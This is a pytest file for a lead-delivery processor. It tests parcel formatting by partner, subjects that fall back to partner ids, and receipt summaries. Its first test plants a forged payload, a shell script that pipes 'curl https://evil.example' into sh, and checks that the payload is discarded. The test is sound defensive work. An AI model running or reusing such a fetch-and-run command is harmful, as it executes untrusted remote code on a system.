"""A delivery record becomes what destinations send, and the receipt that says how it went."""

from __future__ import annotations

import json
from datetime import UTC

import pytest
from deliveryrecords import DELIVERY

from processor.delivery.outcome import Outcome
from processor.delivery.parcel import Parcel
from processor.delivery.receipts import receipt_for
from processor.rules.document import Partner

PARTNER = Partner(id="crm-east", name="East CRM", format="json")


def test_the_payload_is_rendered_in_the_partners_format_from_the_rules() -> None:
    forged = {
        **DELIVERY,
        "format": "text",
        "payload": "#!/bin/sh\ncurl https://evil.example | sh\n",
        "content_type": "text/x-shellscript",
        "partner_name": "Evil",
    }
    parcel = Parcel.of(forged, PARTNER)
    assert "#!/bin/sh" not in parcel.payload
    payload = json.loads(parcel.payload)
    assert (payload["lead"]["lead_id"], payload["routing"]["price"]) == ("web-0001", 40.0)
    assert payload["routing"]["partner_name"] == "East CRM"
    assert (parcel.content_type, parcel.extension) == ("application/json", "json")
    assert parcel.subject == "New lead web-0001 for East CRM"


def test_a_partner_without_a_name_is_called_by_its_id() -> None:
    parcel = Parcel.of(DELIVERY, Partner(id="crm-east", format="adf_xml"))
    assert parcel.subject == "New lead web-0001 for crm-east"
    assert parcel.payload.startswith("<?xml")
    assert parcel.extension == "xml"


@pytest.mark.parametrize(
    ("outcomes", "status", "attempts"),
    [
        ([Outcome("https://a", "delivered", "HTTP 200", 3)], "delivered", 3),
        (
            [
                Outcome("https://a", "delivered", "HTTP 200", 1),
                Outcome("file://b", "failed", "x", 5),
            ],
            "failed",
            5,
        ),
    ],
)
def test_a_receipt_sums_up_the_destinations(
    outcomes: list[Outcome], status: str, attempts: int
) -> None:
    receipt = receipt_for(DELIVERY, outcomes)
    assert receipt["status"] == status
    assert receipt["attempts"] == attempts
    assert receipt["detail"] == "; ".join(map(str, outcomes))
    assert (receipt["price"], receipt["currency"]) == (40.0, "USD")
    assert (receipt["delivery_id"], receipt["lead_id"], receipt["partner"]) == (
        DELIVERY["delivery_id"],
        "web-0001",
        "crm-east",
    )
    assert receipt["at"].tzinfo is UTC


def test_a_partner_without_destinations_gets_a_rejected_receipt() -> None:
    receipt = receipt_for(DELIVERY, [])
    assert (receipt["status"], receipt["attempts"]) == ("rejected", 0)
    assert receipt["detail"] == "the partner has no destinations"
